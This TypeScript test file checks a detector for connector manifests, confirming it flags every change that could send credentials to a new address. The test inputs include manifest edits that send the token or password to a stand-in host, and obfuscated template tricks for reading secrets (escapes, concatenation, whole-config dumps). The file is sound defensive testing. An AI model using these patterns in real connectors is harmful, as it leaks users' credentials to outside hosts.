import { describe, expect, it } from 'vitest';
import { booksManifest } from '../../test/books-manifest.ts';
import { describeManifest } from '../describe.ts';

const properties = `      region: { type: string }
      credentials:
        type: object
        properties:
          kind: { type: string }
          password: { type: string, airbyte_secret: true }
`;
const manifest = booksManifest({ url: 'https://api.books.example', properties });
const addressesOf = (text: string) => describeManifest(text).addresses;
const before = addressesOf(manifest);

/** The addresses that the changed manifest has, and the manifest above does not. */
function newAddresses(from: string, to: string): string[] {
  expect(manifest).toContain(from);
  return addressesOf(manifest.replace(from, () => to)).filter((address) => !before.includes(address));
}

const inRecords = (template: string) => newAddresses(`"shelf {{ record['id'] }}"`, JSON.stringify(template));
const stream = (requester: string) => [
  'spec:\n',
  `  - type: DeclarativeStream
    name: more
    retriever:
      type: SimpleRetriever
      requester: ${requester}
      record_selector: { type: RecordSelector, extractor: { type: DpathExtractor, field_path: [] } }
    schema_loader: { type: InlineSchemaLoader, schema: { type: object } }
spec:
`,
];
const withStream = (requester: string) => {
  const [from = '', to = ''] = stream(requester);
  return newAddresses(from, to);
};
const there = 'https://elsewhere.example';

it('names the origins to which a manifest sends secrets', () => {
  expect(before).toEqual(['https://api.books.example']);
});

describe('A version sends secrets to new addresses', () => {
  it.each([
    ['another base address', 'url_base: https://api.books.example', `url_base: ${there}`],
    ['another port', 'url_base: https://api.books.example', 'url_base: https://api.books.example:8443'],
    ['no TLS', 'url_base: https://api.books.example', 'url_base: http://api.books.example'],
    [
      'a user name that looks like the host',
      'https://api.books.example',
      'https://api.books.example@elsewhere.example',
    ],
    ['a longer host', 'https://api.books.example', 'https://api.books.example.elsewhere.example'],
    ['an address that a setting gives', 'https://api.books.example', `"https://{{ config['region'] }}.example"`],
    ['a path that is an address', 'path: books', `path: ${there}/books`],
    ['a path that a record gives', 'path: books', `path: "{{ stream_partition.url }}"`],
    ['an address that comes by a parameter', 'path: books', `path: books\n        $parameters: { url: "${there}" }`],
    [
      'the address of the next page',
      'record_selector:',
      `paginator: { type: DefaultPaginator, page_token_option: { type: RequestPath }, pagination_strategy: { type: CursorPagination, cursor_value: "{{ response.next }}" } }\n      record_selector:`,
    ],
    [
      'rules that change settings',
      '  connection_specification:',
      `  config_normalization_rules: { type: ConfigNormalizationRules, transformations: [{ type: ConfigRemapField, map: { a: b }, field_path: [region] }] }\n  connection_specification:`,
    ],
  ])('by %s', (_what, from, to) => {
    expect(newAddresses(from, to)).not.toEqual([]);
  });

  it.each([
    ['with the same credentials', `{ $ref: "#/definitions/requester", url_base: "${there}", path: a }`],
    [
      'with the token in a header',
      `{ type: HttpRequester, url_base: "${there}", path: a, request_headers: { A: "{{ config['token'] }}" } }`,
    ],
    [
      'with the token in a body',
      `{ type: HttpRequester, url_base: "${there}", http_method: POST, request_body_json: { a: { b: "{{ config.token }}" } } }`,
    ],
    [
      'with the token in the address',
      `{ type: HttpRequester, url_base: "${there}/{{ config.get('token') }}", path: a }`,
    ],
    [
      'with every setting',
      `{ type: HttpRequester, url_base: "${there}", path: a, request_parameters: { a: "{{ config }}" } }`,
    ],
    [
      'with a name that is put together',
      `{ type: HttpRequester, url_base: "${there}", path: a, request_parameters: { a: "{{ config['to' ~ 'ken'] }}" } }`,
    ],
  ])('by another stream %s', (_what, requester) => {
    expect(withStream(requester)).toContain(there);
  });

  it.each([
    `{{ config['token'] }}`,
    `{{ config.token }}`,
    `{{ config ['token'] }}`,
    `{{ config.get ( 'token' ) }}`,
    `{{ config['to' ~ 'ken'] }}`,
    `{{ config.get('to' ~ 'ken') }}`,
    `{{ config['\\x74oken'] }}`,
    `{{ config["\\u0074oken"] }}`,
    `{{ config.get('\\x74oken') }}`,
    `{{ config['a' if false else 'token'] }}`,
    `{{ config.values() | list }}`,
    `{{ config.values () | list }}`,
    `{% set all = config.values %}{{ all() | list }}`,
    `{{ (config)['token'] }}`,
    `{% set c = config %}{{ c['token'] }}`,
    `{{ [config][0]['token'] }}`,
    `{{ config | tojson }}`,
    `{{ config['credentials'] }}`,
    `{{ config['credentials']['password'] }}`,
    `{{ config['credentials']['pass' ~ 'word'] }}`,
    `{{ config['credentials'].get('pass' ~ 'word') }}`,
    `{{ config.credentials['\\x70assword'] }}`,
  ])('by writing them into records: %s', (template) => {
    expect(inRecords(template)).not.toEqual([]);
  });
});

describe('A version sends secrets to no new address', () => {
  it.each([
    ['another path', 'path: books', 'path: v2/books'],
    ['a path with a setting', 'path: books', `path: "books/{{ config['region'] }}"`],
    [
      'another header with the token',
      'path: books',
      `path: books\n        request_headers: { A: "{{ config['token'] }}" }`,
    ],
    ['another field', '{ type: string, airbyte_secret: true }', '{ type: string, title: Token, airbyte_secret: true }'],
  ])('by %s', (_what, from, to) => {
    expect(newAddresses(from, to)).toEqual([]);
  });

  it.each([
    `{{ config['region'] }}`,
    `{{ config.region }}`,
    `{{ config.get('region', '') }}`,
    `{{ config['credentials']['kind'] }}`,
  ])('by writing other settings into records: %s', (template) => {
    expect(inRecords(template)).toEqual([]);
  });

  it('by another stream of the same host, or of another one that gets no secret', () => {
    expect(withStream(`{ $ref: "#/definitions/requester", path: a }`)).toEqual([]);
    expect(
      withStream(
        `{ type: HttpRequester, url_base: "${there}", path: a, request_parameters: { a: "{{ config.region }}" } }`,
      ),
    ).toEqual([]);
  });
});
